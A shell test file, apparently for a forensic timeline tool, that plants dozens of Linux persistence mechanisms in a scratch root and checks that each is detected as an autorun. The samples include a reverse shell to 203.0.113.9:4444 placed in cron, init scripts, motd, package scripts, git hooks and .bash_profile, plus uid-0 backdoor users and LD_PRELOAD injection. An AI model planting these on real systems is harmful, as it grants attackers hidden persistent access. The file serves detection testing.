# persist_programs.bats - every way a program can be made to start by itself:
# planted in a root of its own, collected, and told as one autorun that says
# what, where, by whom and whether.
#
# shellcheck shell=bash disable=SC1091,SC2016,SC2030,SC2031,SC2154
. "$BATS_TEST_DIRNAME/lib.sh"

shell_net='bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'

# place PATH MODE: standard input becomes a file of the root
place() {
	mkdir -p "$root/$(dirname "$1")"
	cat >"$root/$1"
	chmod "$2" "$root/$1"
}

script() { # PATH [line...]: an executable script
	{
		echo '#!/bin/sh'
		[ $# -lt 2 ] || printf '%s\n' "${@:2}"
	} | place "$1" 755
}

elf() { # PATH
	printf '\177ELF\2\1\1' | cat - /dev/zero | head -c 512 | place "$1" 755
}

link() { # TARGET PATH
	mkdir -p "$root/$(dirname "$2")"
	ln -s "$1" "$root/$2"
}

units() {
	place usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service \
		644 <<-EOT
		[Service]
		ExecStart=/usr/bin/bash -c '$shell_net'
		Restart=always
		[Install]
		WantedBy=multi-user.target
	EOT
	place usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer \
		644 <<-EOT
		[Timer]
		OnCalendar=*:*:00
		[Install]
		WantedBy=timers.target
	EOT
	link /usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer \
		etc/systemd/system/timers.target.wants/dbus-org.freedesktop.resolved.timer
	place etc/systemd/system/off.service 644 <<-EOT
		[Service]
		ExecStartPre=/opt/pre
		ExecStart=/opt/off
		User=hana
		[Install]
		WantedBy=multi-user.target
	EOT
	place home/hana/.config/systemd/user/mine.service 644 <<-EOT
		[Service]
		ExecStart=/home/hana/.local/bin/mine
		[Install]
		WantedBy=default.target
	EOT
	link ../mine.service \
		home/hana/.config/systemd/user/default.target.wants/mine.service
	place etc/systemd/system/ssh.service.d/post.conf 644 <<-EOT
		[Service]
		ExecStartPost=/opt/post
		Environment="LD_PRELOAD=/usr/lib/evil.so"
	EOT
	place etc/systemd/system/service.d/all.conf 644 <<-EOT
		[Service]
		ExecStopPost=/opt/all
	EOT
	place etc/systemd/system/knock.socket 644 <<-EOT
		[Socket]
		ListenStream=31337
		Service=off.service
		[Install]
		WantedBy=sockets.target
	EOT
	place etc/systemd/system/watch.path 644 <<-EOT
		[Path]
		PathModified=/etc/passwd
		Unit=off.service
	EOT
	place etc/systemd/system/srv-x.mount 644 <<-EOT
		[Mount]
		What=/opt/x.img
		Where=/srv/x
	EOT
	place etc/systemd/system/srv-x.automount 644 <<-EOT
		[Automount]
		Where=/srv/x
	EOT
	for in in etc/systemd/system.control run/systemd/system.control \
		run/systemd/transient run/systemd/generator \
		run/systemd/generator.early run/systemd/generator.late \
		run/systemd/system run/systemd/system.attached \
		etc/systemd/system.attached usr/lib/systemd/system \
		etc/systemd/user run/systemd/user usr/lib/systemd/user \
		usr/local/lib/systemd/user usr/share/systemd/user \
		usr/local/share/systemd/user run/user/1000/systemd/transient \
		run/user/1000/systemd/generator \
		home/hana/.config/systemd/user.control \
		home/hana/.local/share/systemd/user; do
		name=$(printf %s "$in" | tr -c 'a-z0-9\n' _)
		printf '[Service]\nExecStart=/opt/%s\n' "$name" |
			place "$in/in_$name.service" 644
	done
	place etc/containers/systemd/pod.container 644 <<-EOT
		[Container]
		Image=docker.io/library/alpine
		Exec=/bin/sh -c "/opt/pod"
	EOT
	place etc/systemd/system.conf.d/env.conf 644 <<-EOT
		[Manager]
		DefaultEnvironment=LD_PRELOAD=/usr/lib/all.so
	EOT
}

generators() {
	for in in etc/systemd run/systemd usr/local/lib/systemd \
		usr/lib/systemd; do
		elf $in/system-generators/makecon
		script $in/user-generators/gen
		script $in/system-environment-generators/gen
		script $in/user-environment-generators/gen
	done
}

programs() {
	script etc/cron.daily/backup "$shell_net"
	at=var/spool/cron/atjobs/a0000101c4a2f0
	export at
	place $at 700 <"$top/testdata/rcfile/atjob/input"
	chown 1000 "$root/$at"
	script etc/cron.hourly/off.sh
	elf etc/cron.weekly/binary
	script etc/cron.monthly/month
	script etc/init.d/ssh-procps '### BEGIN INIT INFO' \
		'# Provides: ssh sshd' '### END INIT INFO' "$shell_net"
	script etc/init.d/ssh '### BEGIN INIT INFO' '# Provides: sshd' \
		'### END INIT INFO'
	link ../init.d/ssh-procps etc/rc3.d/S01ssh-procps
	script etc/init.d/off-procps
	script etc/rc3.d/S99direct
	script etc/rc.local /opt/boot
	script etc/rc.d/rc.local /opt/boot
	script etc/local.d/x.start
	script etc/update-motd.d/137-python-upgrades "$shell_net"
	script etc/NetworkManager/dispatcher.d/x.sh
	script etc/NetworkManager/dispatcher.d/pre-up.d/x.sh
	script etc/NetworkManager/dispatcher.d/pre-down.d/x.sh
	script etc/NetworkManager/dispatcher.d/no-wait.d/x.sh
	elf usr/lib/NetworkManager/dispatcher.d/bin
	script etc/networkd-dispatcher/routable.d/x
	script usr/lib/networkd-dispatcher/off.d/x
	for when in up down pre-up post-down; do
		script etc/network/if-$when.d/x
	done
	echo 'true' | place etc/dhcp/dhclient-enter-hooks.d/x 644
	echo 'true' | place etc/dhcp/dhclient-exit-hooks.d/x 644
	script etc/ppp/ip-up.d/x
	script usr/lib/systemd/system-sleep/x
	elf usr/lib/systemd/system-shutdown/x
	script etc/kernel/postinst.d/x
	script etc/kernel/prerm.d/x
	script etc/kernel/install.d/90-x.install
	script usr/lib/kernel/install.d/90-x.install
	script etc/initramfs-tools/hooks/x
	script etc/initramfs-tools/scripts/init-bottom/x 'useradd -o -u 0 x'
	script usr/lib/dracut/modules.d/99panix/module-setup.sh
	script usr/lib/dracut/modules.d/99panix/backdoor-user.sh "$shell_net"
	script etc/grub.d/50_x
	script var/lib/cloud/scripts/per-boot/x
	script var/lib/cloud/scripts/per-instance/x
	script var/lib/cloud/scripts/per-once/x
	script var/lib/dpkg/info/panix.postinst "$shell_net"
	script var/lib/dpkg/info/panix.prerm
	script etc/ifplugd/action.d/x
	elf usr/lib/cups/backend/x
	script usr/lib/cups/filter/x
	script etc/libvirt/hooks/qemu
	script etc/pm/sleep.d/x
}

people() {
	echo 'true' | place etc/profile.d/x.sh 644
	echo "($shell_net &)" | place home/hana/.bash_profile 644
	echo 'true' | place etc/X11/Xsession.d/60x 644
	script etc/X11/xinit/xinitrc.d/x
	echo '/opt/x &' | place home/hana/.xsessionrc 644
	script home/hana/.config/autostart-scripts/x
	script home/hana/.config/plasma-workspace/env/x.sh
	place etc/xdg/autostart/pkc12-register.desktop 644 <<-EOT
		[Desktop Entry]
		Type=Application
		Name=pkc12-register
		Exec=/etc/xdg/pkc12-register
	EOT
	place home/hana/.config/autostart/user-dirs.desktop 644 <<-EOT
		[Desktop Entry]
		Name=user-dirs
		Exec=/home/hana/.config/autostart/.user-dirs
	EOT
	place home/hana/.config/autostart/gone.desktop 644 <<-EOT
		[Desktop Entry]
		Exec=/usr/bin/gone
		Hidden=true
	EOT
	place usr/share/gnome/autostart/g.desktop 644 <<-EOT
		[Desktop Entry]
		Exec=/opt/g
	EOT
	place home/hana/.local/share/applications/vim.desktop 644 <<-EOT
		[Desktop Entry]
		Exec=/opt/vim
	EOT
	echo | place usr/share/applications/vim.desktop 644
	elf home/hana/.config/autostart/.user-dirs
	script home/hana/src/app/.git/hooks/pre-commit "$shell_net"
	elf srv/git/x.git/hooks/update
	script home/hana/src/app/.git/hooks/pre-push.sample
	place home/hana/src/app/.git/config 644 <<-EOT
		[core]
			fsmonitor = /opt/fsmonitor
			hooksPath = /opt/hooks
	EOT
	printf '[core]\n\tpager = nohup setsid /opt/pager & ${PAGER:-less}\n' |
		place home/hana/.gitconfig 644
}

tables() {
	place usr/share/dbus-1/system-services/org.panix.service 644 <<-EOT
		[D-BUS Service]
		Name=org.panix
		Exec=/usr/local/bin/dbus-panix.sh
		User=root
	EOT
	place home/hana/.local/share/dbus-1/services/org.mine.service 644 <<-EOT
		[D-BUS Service]
		Name=org.mine
		Exec=/opt/mine
	EOT
	place etc/dbus-1/system.d/org.panix.conf 644 <<-EOT
		<busconfig><policy context="default">
		<allow own="org.panix"/></policy></busconfig>
	EOT
	place etc/udev/rules.d/10-sedexp.rules 644 <<-EOT
		ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/bin/sedexp"
		SUBSYSTEM=="net", KERNEL!="lo", PROGRAM="/opt/p", IMPORT{program}="/opt/i"
		SUBSYSTEM=="usb", ENV{SYSTEMD_WANTS}="off.service"
	EOT
	place run/udev/rules.d/11-x.rules 644 <<-EOT
		SUBSYSTEM=="net", RUN+="/usr/bin/at -M -f /opt/at now"
	EOT
	echo 'install vfat /bin/sh -c "/opt/vfat"' |
		place etc/modprobe.d/x.conf 644
	echo 'softdep a pre: b' | place usr/lib/modprobe.d/y.conf 644
	echo panix | place etc/modules-load.d/panix.conf 644
	echo diamorphine | place etc/modules 644
	echo panix | place usr/lib/modules-load.d/panix.conf 644
	printf ':x:M::MZ::/opt/interp:OC\n' | place etc/binfmt.d/x.conf 644
	echo 'L+ /usr/bin/ls - - - - /opt/ls' | place etc/tmpfiles.d/x.conf 644
	echo 'export LD_PRELOAD="/usr/lib/e.so"' | place etc/default/ssh 644
	echo 'enable evil.service' |
		place etc/systemd/system-preset/00-x.preset 644
	: | place var/lib/systemd/linger/hana 644
	echo 'u toor 0 "x" /root /bin/bash' | place etc/sysusers.d/x.conf 644
	printf 'event=button.*\naction=/opt/acpi %%e\n' |
		place etc/acpi/events/x 644
	place var/lib/cloud/instance/user-data.txt 644 <<-EOT
		#cloud-config
		bootcmd:
		  - /opt/bootcmd
		runcmd:
		  - [ sh, -c, "/opt/runcmd" ]
		write_files:
		  - path: /etc/cron.d/x
		    content: |
		      1 1 1 1 1 root /opt/written
	EOT
	script opt/away.service
	link /opt/app/app.service etc/systemd/system/app.service
	printf '[Service]\nExecStart=/opt/app/run\n' |
		place opt/app/app.service 644
}

setup_file() {
	begin utmp
	[ "$(id -u)" -eq 0 ] || return 0
	root=$dir/planted
	small_root "$root"
	units
	generators
	programs
	people
	tables
	judge "$root"
	cp "$case_file.events" "$dir/events"
	cp "$case_file.findings" "$dir/findings"
	# the archive itself is not in the inputs below
	"$konseki" timeline "$root" >"$dir/events.dir"
	# pax with the times that a collector of evidence keeps
	tar -C "$root" --format=pax --pax-option=delete=atime \
		-cf "$dir/planted.tar" .
	"$konseki" timeline "$dir/planted.tar" >"$dir/events.tar"
	jq -c 'select(.event.action == "autorun") | {
		source: .konseki.source, dataset: .event.dataset,
		command: .process.command_line, user: .user.name,
		a: .konseki.autorun, file: .file }' "$dir/events" \
		>"$dir/autoruns"
	for how in dir tar; do
		jq -c 'select(.event.action == "autorun") | {
			command: .process.command_line, user: .user.name,
			a: .konseki.autorun, file: .file }' \
			"$dir/events.$how" \
			>"$dir/autoruns.$how"
	done
}

setup() {
	need_root
}

# One autorun has this path and mechanism, and makes the condition true.
fact() { # MECHANISM PATH [CONDITION [FILE]]
	found=$(jq -c --arg m "$1" --arg p "/$2" \
		"select(.a.mechanism == \$m and .a.path == \$p) |
		select(${3:-true})" "$dir/autoruns${4-}" | head -n 1)
	[ -n "$found" ] || {
		echo "no $1 at /$2 with ${3-}; there are:"
		jq -c --arg p "/$2" 'select(.a.path == $p)' \
			"$dir/autoruns${4-}"
		return 1
	}
}

# A program in a place: the fact and its times, and that it was collected.
program() { # MECHANISM PATH [CONDITION]
	fact "$1" "$2" ".a.target == \"/$2\" and .command == \"/$2\" and
		.file.mtime != null and .file.ctime != null and ${3:-true}"
	tar -tf "$dir/planted.tar.zst" "files/$2" >/dev/null
}

yes='.a.enabled == true'
no='.a.enabled == false'
root_runs='.user == "root"'
hana_runs='.user == "hana"'

@test "persist/cron: programs of run-parts, binaries too (8)" {
	program cron_script etc/cron.daily/backup \
		"$yes and $root_runs and .a.schedule == \"@daily\""
	fact cron_script etc/cron.daily/backup ".command == \"$shell_net\""
	program cron_script etc/cron.hourly/off.sh "$no"
	program cron_script etc/cron.weekly/binary "$yes"
	program cron_script etc/cron.monthly/month "$yes"
}

@test "persist/at: whose, when, and not what at itself wrote" {
	program cron_at $at '.user == "hana"'
	fact cron_at $at '.user == "hana" and .command == "/opt/x/run --now" and
		.a.schedule == "once 2026-05-26T23:44:00.000000000Z"'
	refute fact cron_at $at '.command | startswith("umask")'
}

@test "persist/dbus: services and names (9)" {
	fact dbus_service usr/share/dbus-1/system-services/org.panix.service \
		".command == \"/usr/local/bin/dbus-panix.sh\" and $root_runs"
	fact dbus_service home/hana/.local/share/dbus-1/services/org.mine.service \
		".a.target == \"/opt/mine\" and $hana_runs"
	fact dbus_policy etc/dbus-1/system.d/org.panix.conf \
		'.a.name == "org.panix"'
}

@test "persist/generators: every kind in every directory (10)" {
	for in in etc/systemd run/systemd usr/local/lib/systemd \
		usr/lib/systemd; do
		program systemd_generator $in/system-generators/makecon \
			"$yes and $root_runs and .a.schedule == \"boot\""
		program systemd_generator $in/user-generators/gen "$yes"
		program systemd_generator \
			$in/system-environment-generators/gen "$root_runs"
		program systemd_generator $in/user-environment-generators/gen
	done
}

@test "persist/git: hooks and settings, wherever the repository is (11)" {
	program git_hook home/hana/src/app/.git/hooks/pre-commit \
		"$yes and $hana_runs"
	program git_hook srv/git/x.git/hooks/update "$yes"
	fact git_config home/hana/src/app/.git/config \
		'.command == "/opt/fsmonitor" and .a.name == "core.fsmonitor"'
	fact git_config home/hana/src/app/.git/config \
		'.a.name == "core.hookspath" and .a.target == "/opt/hooks"'
	fact git_config home/hana/.gitconfig \
		".a.target == \"/opt/pager\" and $hana_runs"
	run fact git_hook home/hana/src/app/.git/hooks/pre-push.sample
	[ "$status" -eq 1 ]
}

@test "persist/init: init.d, its links, a file among them (13)" {
	program init etc/init.d/ssh-procps "$yes and $root_runs"
	fact init etc/init.d/ssh-procps ".command == \"$shell_net\""
	fact init etc/init.d/ssh-procps '.a.claims == "/etc/init.d/ssh" and
		.a.comment == "ssh sshd"'
	fact init etc/init.d/ssh '.a.claims == null'
	program init etc/init.d/off-procps "$no"
	program init etc/rc3.d/S99direct "$yes"
	run fact init etc/rc3.d/S01ssh-procps
	[ "$status" -eq 1 ]
}

@test "persist/initramfs: hooks, scripts, dracut modules (14)" {
	program initramfs_hook etc/initramfs-tools/hooks/x "$yes"
	program initramfs_hook etc/initramfs-tools/scripts/init-bottom/x "$yes"
	program initramfs_hook \
		usr/lib/dracut/modules.d/99panix/module-setup.sh "$yes"
	fact initramfs_hook usr/lib/dracut/modules.d/99panix/backdoor-user.sh \
		".command == \"$shell_net\" and .a.schedule == \"early boot\""
}

@test "persist/modules: loaded at boot, or by another command (16, 29)" {
	fact modules_load etc/modules-load.d/panix.conf \
		'.a.name == "panix" and .a.schedule == "boot"'
	fact modules_load usr/lib/modules-load.d/panix.conf
	fact modules_load etc/modules '.a.name == "diamorphine"'
	fact modprobe etc/modprobe.d/x.conf \
		".a.target == \"/opt/vfat\" and .a.name == \"vfat\" and $root_runs"
	fact modprobe usr/lib/modprobe.d/y.conf \
		'.a.options == "softdep a pre: b"'
}

@test "persist/packages: maintainer scripts (18)" {
	program package_script var/lib/dpkg/info/panix.postinst "$root_runs"
	fact package_script var/lib/dpkg/info/panix.postinst \
		".command == \"$shell_net\""
	program package_script var/lib/dpkg/info/panix.prerm
}

@test "persist/motd: update-motd.d (19)" {
	program motd etc/update-motd.d/137-python-upgrades \
		"$yes and $root_runs and .a.schedule == \"login\""
}

@test "persist/network: dispatchers and hooks of every kind (20)" {
	for sub in '' pre-up.d/ pre-down.d/ no-wait.d/; do
		program network_hook \
			"etc/NetworkManager/dispatcher.d/${sub}x.sh" \
			"$yes and $root_runs and .a.schedule == \"network\""
	done
	program network_hook usr/lib/NetworkManager/dispatcher.d/bin "$yes"
	program network_hook etc/networkd-dispatcher/routable.d/x "$yes"
	program network_hook usr/lib/networkd-dispatcher/off.d/x "$yes"
	for when in up down pre-up post-down; do
		program network_hook etc/network/if-$when.d/x "$yes"
	done
	program network_hook etc/dhcp/dhclient-enter-hooks.d/x "$yes"
	program network_hook etc/dhcp/dhclient-exit-hooks.d/x "$yes"
	program network_hook etc/ppp/ip-up.d/x "$yes"
	program network_hook etc/ifplugd/action.d/x "$yes"
}

@test "persist/rc.local and local.d (27)" {
	program rc_local etc/rc.local "$yes and $root_runs"
	fact rc_local etc/rc.local '.a.target == "/opt/boot"'
	program rc_local etc/rc.d/rc.local "$yes"
	program rc_local etc/local.d/x.start "$yes"
}

@test "persist/systemd: service and timer tell of each other (35)" {
	at=usr/local/lib/systemd/system/dbus-org.freedesktop.resolved
	fact systemd_timer $at.timer \
		"$yes and .a.schedule == \"*:*:00\" and $root_runs and
		(.command | contains(\"/dev/tcp/203.0.113.9\"))"
	fact systemd $at.service "$yes and .a.schedule == \"*:*:00\" and
		(.command | contains(\"/dev/tcp/203.0.113.9\"))"
}

@test "persist/systemd: enabled by links, user, every Exec line" {
	fact systemd etc/systemd/system/off.service \
		"$no and $hana_runs and .a.target == \"/opt/off\" and
		.a.schedule != null"
	fact systemd etc/systemd/system/off.service \
		'.a.target == "/opt/pre" and (.a.options | test("^ExecStartPre"))'
	fact systemd home/hana/.config/systemd/user/mine.service \
		"$yes and $hana_runs and .a.target == \"/home/hana/.local/bin/mine\""
}

@test "persist/systemd: drop-ins, of a unit and of a type, preloading" {
	fact systemd_dropin etc/systemd/system/ssh.service.d/post.conf \
		'.a.name == "ssh.service" and .a.target == "/opt/post"'
	fact systemd_environment etc/systemd/system/ssh.service.d/post.conf \
		'.a.target == "/usr/lib/evil.so"'
	fact systemd_dropin etc/systemd/system/service.d/all.conf \
		"$yes and .a.target == \"/opt/all\""
	fact systemd_environment etc/systemd/system.conf.d/env.conf \
		'.a.target == "/usr/lib/all.so"'
}

@test "persist/systemd: sockets, paths, mounts, automounts" {
	fact systemd_socket etc/systemd/system/knock.socket \
		"$no and .command == \"/opt/off\" and $hana_runs and
		.a.schedule == \"ListenStream=31337\""
	fact systemd_path etc/systemd/system/watch.path \
		'.command == "/opt/off" and .a.schedule == "PathModified=/etc/passwd"'
	fact systemd_mount etc/systemd/system/srv-x.mount
	fact systemd_automount etc/systemd/system/srv-x.automount
}

@test "persist/systemd: every directory units are read from" {
	n=0
	for path in $(cd "$dir/planted" && find . -name 'in_*.service'); do
		path=${path#./}
		name=${path##*/in_}
		fact systemd "$path" ".a.target == \"/opt/${name%.service}\""
		n=$((n + 1))
	done
	[ "$n" -eq 20 ]
}

@test "persist/systemd: a link that leads out of those directories" {
	fact systemd etc/systemd/system/app.service \
		'.a.target == "/opt/app/app.service"'
}

@test "persist/systemd: presets, and users whose manager starts at boot" {
	fact preset etc/systemd/system-preset/00-x.preset \
		"$yes and .a.name == \"evil.service\""
	fact linger var/lib/systemd/linger/hana "$yes and .a.name == \"hana\""
}

@test "persist/systemd: quadlets" {
	fact quadlet etc/containers/systemd/pod.container \
		'.a.target == "/opt/pod"'
}

@test "persist/systemd: sleep, shutdown, kernel-install" {
	program sleep_hook usr/lib/systemd/system-sleep/x "$yes"
	program shutdown_hook usr/lib/systemd/system-shutdown/x "$yes"
	program kernel_hook etc/kernel/install.d/90-x.install "$yes"
	program kernel_hook usr/lib/kernel/install.d/90-x.install "$yes"
	program kernel_hook etc/kernel/postinst.d/x "$yes"
	program kernel_hook etc/kernel/prerm.d/x "$yes"
	program grub_script etc/grub.d/50_x "$yes"
	program sleep_hook etc/pm/sleep.d/x "$yes"
	program vm_hook etc/libvirt/hooks/qemu "$yes"
}

@test "persist/udev: RUN, PROGRAM, IMPORT, units (36)" {
	fact udev etc/udev/rules.d/10-sedexp.rules \
		".command == \"/bin/sedexp\" and $root_runs and
		(.a.options | contains(\"ENV{MAJOR}==\"))"
	fact udev etc/udev/rules.d/10-sedexp.rules '.command == "/opt/p"'
	fact udev etc/udev/rules.d/10-sedexp.rules '.command == "/opt/i"'
	fact udev etc/udev/rules.d/10-sedexp.rules '.command == "off.service"'
	fact udev run/udev/rules.d/11-x.rules '.a.target == "/usr/bin/at"'
}

@test "persist/desktop: autostart, overrides, session scripts (38)" {
	fact xdg_autostart etc/xdg/autostart/pkc12-register.desktop \
		"$yes and .a.target == \"/etc/xdg/pkc12-register\""
	fact xdg_autostart home/hana/.config/autostart/user-dirs.desktop \
		"$yes and $hana_runs and
		.a.target == \"/home/hana/.config/autostart/.user-dirs\""
	fact xdg_autostart home/hana/.config/autostart/gone.desktop "$no"
	fact xdg_autostart usr/share/gnome/autostart/g.desktop
	fact desktop_entry home/hana/.local/share/applications/vim.desktop \
		'.a.options == "overrides=/usr/share/applications/vim.desktop"'
	program x_session home/hana/.config/autostart-scripts/x "$hana_runs"
	program x_session home/hana/.config/plasma-workspace/env/x.sh
	program x_session home/hana/.xsessionrc "$yes and $hana_runs"
	program x_session etc/X11/Xsession.d/60x "$yes"
	program x_session etc/X11/xinit/xinitrc.d/x "$yes"
}

@test "persist/shells: profile.d and a user's own (30)" {
	program shell_profile etc/profile.d/x.sh "$yes"
	program shell_rc home/hana/.bash_profile "$yes and $hana_runs"
}

@test "persist/tables: binfmt, tmpfiles, sysusers, acpi, cups" {
	fact binfmt etc/binfmt.d/x.conf '.a.target == "/opt/interp"'
	fact tmpfiles etc/tmpfiles.d/x.conf \
		'.a.name == "/usr/bin/ls" and .command == "/opt/ls"'
	fact sysusers etc/sysusers.d/x.conf '.a.name == "toor"'
	fact environment etc/default/ssh '.a.target == "/usr/lib/e.so"'
	fact acpi etc/acpi/events/x '.a.target == "/opt/acpi"'
	program cups usr/lib/cups/backend/x "$yes"
	program cups usr/lib/cups/filter/x "$yes"
}

@test "persist/cloud-init: scripts and user-data" {
	for when in boot instance once; do
		program cloud_init var/lib/cloud/scripts/per-$when/x \
			"$yes and $root_runs"
	done
	fact cloud_init var/lib/cloud/instance/user-data.txt \
		'.command == "/opt/bootcmd" and .a.schedule == "boot"'
	fact cloud_init var/lib/cloud/instance/user-data.txt \
		'.command == "sh -c /opt/runcmd"'
	fact cloud_init var/lib/cloud/instance/user-data.txt \
		'.a.name == "/etc/cron.d/x"'
}

@test "persist/findings: what a rule says of them" {
	case_file=$dir/none
	cp "$dir/findings" "$dir/none.findings"
	for rule in persist_generator_unpackaged persist_network_shell \
		persist_udev_command persist_hidden_home_program \
		persist_unit_masquerade; do
		found respond | grep -qx "respond $rule.yml"
	done
	for rule in persist_dbus_unpackaged persist_modprobe_command \
		persist_environment_preload persist_binfmt_interpreter \
		persist_tmpfiles_plants persist_git_command; do
		found watch | grep -qx "watch $rule.yml"
	done
	found note | grep -qx 'note persist_hook_unpackaged.yml'
}

# What needs no walk is the same for a directory and a tar.
@test "persist/foreign: a plain directory and a tar tell the same" {
	for how in .dir .tar; do
		for place in \
			'cron_script etc/cron.daily/backup' \
			'cron_script etc/cron.weekly/binary' \
			'systemd_generator usr/lib/systemd/system-generators/makecon' \
			'network_hook usr/lib/NetworkManager/dispatcher.d/bin' \
			'motd etc/update-motd.d/137-python-upgrades' \
			'git_hook srv/git/x.git/hooks/update' \
			'cloud_init var/lib/cloud/scripts/per-boot/x' \
			'package_script var/lib/dpkg/info/panix.postinst'; do
			# shellcheck disable=SC2086 # two words
			fact $place ".a.target == .a.path and $yes and
				.file.mtime != null" $how ||
				fact $place '.a.target == .a.path and
				.a.mechanism == "package_script"' $how
		done
		fact systemd_timer \
			usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer \
			"$yes and (.command | contains(\"/dev/tcp/\"))" $how
		fact systemd etc/systemd/system/off.service \
			"$no and $hana_runs" $how
		fact init etc/init.d/ssh-procps "$yes" $how
		fact init etc/init.d/off-procps "$no" $how
		fact udev etc/udev/rules.d/10-sedexp.rules \
			'.command == "/bin/sedexp" and .file.mtime != null' $how
		fact dbus_service \
			usr/share/dbus-1/system-services/org.panix.service \
			'.a.target == "/usr/local/bin/dbus-panix.sh"' $how
		fact xdg_autostart \
			home/hana/.config/autostart/user-dirs.desktop \
			"$hana_runs" $how
		fact modprobe etc/modprobe.d/x.conf '.a.target == "/opt/vfat"' \
			$how
	done
	# the tar kept when the metadata changed
	fact udev etc/udev/rules.d/10-sedexp.rules '.file.ctime != null' .tar
}
